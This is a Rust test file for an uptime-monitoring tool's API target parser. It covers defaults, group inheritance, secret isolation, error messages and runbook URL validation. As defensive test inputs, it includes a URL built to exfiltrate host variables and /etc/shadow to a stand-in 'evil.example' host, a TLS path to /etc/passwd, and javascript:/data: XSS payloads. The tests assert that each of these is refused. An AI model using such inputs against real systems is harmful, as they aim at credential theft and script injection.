use super::*;
use crate::config::{Surroundings, read_text};

fn shared(text: &str) -> Shared {
    let surroundings = Surroundings { variable: &|name| Some(format!("value of {name}")), folder: PathBuf::new() };
    read_text("allswell.yaml", text, &surroundings).unwrap_or_else(|report| panic!("{report}")).shared
}

fn read(id: Option<&str>, json: &str, shared: &Shared) -> Result<Arc<Plan>, Vec<String>> {
    let id = id.map(|id| TargetId::new(id).unwrap());
    read_target(id.as_ref(), json, shared, &Arc::new(Denied::new(Vec::new())))
}

#[test]
fn it_has_the_defaults_and_its_group_of_the_file() {
    let shared = shared(
        "channels: { a: { type: webhook, url: 'https://x/' } }\ndefaults: { every: 7s, alert: a }\ngroups: { g: { labels: { l: m } } }\n",
    );
    let plan = read(Some("g/x"), r#"{ "url": "tcp://127.0.0.1:1", "group": "g", "down_after": 3 }"#, &shared).unwrap();
    let target = &plan.target;
    assert_eq!((target.id.as_str(), target.name.to_string().as_str()), ("g/x", "g/x"));
    assert_eq!((target.policy.every.as_secs(), target.policy.down_after, target.labels["l"].as_str()), (7, 3, "m"));
    assert_eq!((target.alerting.channels.len(), &target.origin), (1, &allswell_model::Origin::Api));
}

#[test]
fn its_id_is_the_one_that_it_was_sent_to() {
    let shared = Shared::default();
    let named = |id, json| read(id, json, &shared).map(|plan| format!("{} {}", plan.target.id, plan.target.name));
    assert_eq!(named(None, r#"{ "url": "tcp://127.0.0.1:1" }"#).unwrap(), "tcp://127.0.0.1:1 tcp://127.0.0.1:1");
    assert_eq!(named(Some("a"), r#"{ "url": "tcp://127.0.0.1:1" }"#).unwrap(), "a a");
    assert_eq!(named(Some("a"), r#"{ "url": "tcp://127.0.0.1:1", "name": "b", "id": "a" }"#).unwrap(), "a b");
    let refused = named(Some("a"), r#"{ "url": "tcp://127.0.0.1:1", "id": "b" }"#).unwrap_err();
    assert_eq!(refused, ["its `id` is another than `a`, to which it was sent: leave it out"]);
}

#[test]
fn nothing_of_this_host_is_given_away() {
    let shared = Shared::default();
    let refused = read(
        None,
        r#"{ "url": "https://${HOME}.evil.example/${file:/etc/shadow}", "each": { "a": ["b"] }, "tls": { "ca": "/etc/passwd" } }"#,
        &shared,
    );
    let refused = refused.unwrap_err();
    assert!(refused.iter().any(|one| one.contains("is not filled in for a target of the API")), "{refused:?}");
    assert!(refused.iter().any(|one| one.starts_with("`each` makes several")), "{refused:?}");
    let refused = read(None, r#"{ "url": "tls://127.0.0.1:1", "tls": { "ca": "/etc/passwd" } }"#, &shared).unwrap_err();
    assert_eq!(refused, ["`ca` names a file of this host, which a target of the API may not"]);
}

#[test]
fn a_secret_of_its_group_goes_nowhere_with_it() {
    let shared =
        shared("defaults: { http: { headers: { X-Key: '${KEY}' } } }\ngroups: { g: { http: { bearer: '${TOKEN}', method: POST } } }\n");
    let plan = read(None, r#"{ "url": "http://192.0.2.7/", "group": "g" }"#, &shared).unwrap();
    let alone = read(None, r#"{ "url": "http://192.0.2.7/" }"#, &Shared::default()).unwrap();
    let asked = |plan: &Plan| plan.target.repeat.clone();
    assert_eq!(asked(&plan), asked(&alone), "the very same request as without any group");
    let own = read(None, r#"{ "url": "http://192.0.2.7/", "http": { "bearer": "mine" } }"#, &shared).unwrap();
    assert!(asked(&own).contains("bearer"), "{}", asked(&own));
}

#[test]
fn every_mistake_is_a_sentence() {
    let refused = read(
        None,
        r#"{ "url": "tcp://x:70000", "evry": 1, "timeout": 5, "expect": ["rtt_sm < 3"], "group": "none", "alert": "nobody" }"#,
        &Shared::default(),
    );
    let refused = refused.unwrap_err();
    assert_eq!(refused.len(), 6, "{refused:#?}");
    for json in ["", "[]", "null", "\"x\"", "{", "{}"] {
        assert!(!read(None, json, &Shared::default()).unwrap_err().is_empty(), "{json}");
    }
}

#[test]
fn a_runbook_is_a_url_for_browsers() {
    let sent = |runbook: &str| read(None, &format!(r#"{{ "url": "tcp://127.0.0.1:1", "runbook": "{runbook}" }}"#), &Shared::default());
    assert_eq!(sent("https://wiki/x").unwrap().target.runbook.as_deref(), Some("https://wiki/x"));
    for wrong in ["javascript:alert(1)", "JavaScript://x/%0aalert(1)", "data:text/html,x", "wiki/x", "https://", "http:///x", "https://a b"]
    {
        let refused = sent(wrong).unwrap_err();
        assert_eq!(refused, ["`runbook` takes a URL of http or https: such as https://wiki.example.com/api"], "{wrong}");
    }
}
